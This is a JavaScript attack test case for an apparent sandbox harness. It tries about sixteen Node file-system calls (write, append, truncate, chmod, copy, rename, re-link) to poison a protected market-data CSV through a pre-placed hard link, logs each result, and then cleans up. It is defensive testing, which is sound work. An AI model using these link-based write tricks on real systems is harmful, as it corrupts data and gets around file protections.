/* @attack {"title": "every write API on runs/attacker/hard.csv, a pre-placed hard link of data/lakehouse/AAPL.csv", "setup": ["hardlink-to-lakehouse"]} */
import fs from 'node:fs';
import { finished } from 'node:stream/promises';

const run = process.env.SLEEVE_RUN_DIR;
for (let i = 0; i < 400 && !fs.existsSync(`${run}/.ready`); i++) await new Promise((r) => setTimeout(r, 25));
const hard = `${run}/hard.csv`;
fs.writeFileSync(`${run}/payload.csv`, 'poisoned through the hard link\n');
const viaCallback = (call) => new Promise((resolve, reject) => call((error) => (error ? reject(error) : resolve())));
const attempts = [
  ['writeFileSync', () => fs.writeFileSync(hard, 'poisoned\n')],
  ['appendFileSync', () => fs.appendFileSync(hard, 'poisoned\n')],
  ['writeFile callback', () => viaCallback((cb) => fs.writeFile(hard, 'poisoned\n', cb))],
  ['promises.writeFile', () => fs.promises.writeFile(hard, 'poisoned\n')],
  ['openSync r+', () => fs.writeSync(fs.openSync(hard, 'r+'), 'XXXX', 0)],
  ['openSync w', () => fs.openSync(hard, 'w')],
  ['promises.open a', async () => (await fs.promises.open(hard, 'a')).write('poisoned\n')],
  ['createWriteStream r+', async () => {
    const s = fs.createWriteStream(hard, { flags: 'r+' });
    s.end('XXXX');
    await finished(s);
  }],
  ['truncateSync', () => fs.truncateSync(hard, 0)],
  ['chmodSync', () => fs.chmodSync(hard, 0o777)],
  ['utimesSync', () => fs.utimesSync(hard, 0, 0)],
  ['lutimesSync', () => fs.lutimesSync(hard, 0, 0)],
  ['copyFileSync onto it', () => fs.copyFileSync(`${run}/payload.csv`, hard)],
  ['cpSync onto it', () => fs.cpSync(`${run}/payload.csv`, hard, { force: true })],
  ['rename it, then write the new name', () => {
    fs.renameSync(hard, `${run}/moved.csv`);
    fs.writeFileSync(`${run}/moved.csv`, 'poisoned\n');
  }],
  ['hard link it again, then write', () => {
    fs.linkSync(fs.existsSync(hard) ? hard : `${run}/moved.csv`, `${run}/again.csv`);
    fs.writeFileSync(`${run}/again.csv`, 'poisoned\n');
  }],
];
for (const [name, call] of attempts) {
  try {
    await call();
    console.log(`${name}: done`);
  } catch (error) {
    console.log(`${name}: ${error.code}`);
  }
}
// The harness's own link raised AAPL.csv's link count, which its snapshot
// records: drop every name this run holds for that inode.
for (const name of ['hard.csv', 'moved.csv', 'again.csv']) fs.rmSync(`${run}/${name}`, { force: true });
